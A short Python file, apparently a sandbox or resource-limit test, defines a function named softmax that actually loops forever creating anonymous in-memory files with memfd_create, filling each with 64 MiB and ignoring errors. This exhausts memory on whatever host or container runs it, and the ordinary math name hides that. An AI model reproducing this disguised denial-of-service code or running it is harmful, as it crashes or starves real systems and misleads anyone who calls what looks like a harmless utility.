# Files that live in memory and have no name.
# needs: namespaces
import os


def softmax(x):
    handles = []
    while True:
        try:
            handles.append(os.memfd_create("held"))
            for _ in range(64):
                os.write(handles[-1], b"\1" * (1 << 20))
        except OSError:
            pass
